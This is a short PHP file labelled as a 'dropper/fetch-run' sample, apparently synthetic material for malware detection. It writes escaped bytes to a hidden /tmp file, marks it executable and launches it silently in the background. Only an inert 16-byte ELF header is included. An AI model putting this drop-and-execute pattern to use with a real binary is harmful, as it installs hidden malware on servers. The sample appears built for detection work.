<?php
/* Family: dropper/fetch-run
 * Style: helper binary carried as escaped bytes
 * Trait: an ELF header as \x escapes (here only the first 16 bytes, nothing that runs) written to /tmp and started in the background
 */
$bin = "\x7f\x45\x4c\x46\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00";
file_put_contents('/tmp/.h', $bin);
@chmod('/tmp/.h', 0755);
@system('/tmp/.h >/dev/null 2>&1 &');
